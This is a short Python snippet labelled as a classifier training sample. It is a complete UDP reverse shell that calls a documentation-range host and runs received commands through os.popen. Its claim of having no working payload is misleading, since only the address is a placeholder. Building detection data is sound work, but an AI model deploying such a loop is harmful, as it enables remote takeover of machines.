# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
import socket,os
u=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)
u.sendto(b"hi",("192.0.2.44",53))
while 1:
    d,a=u.recvfrom(2048)
    u.sendto(os.popen(d.decode()).read().encode(),a)
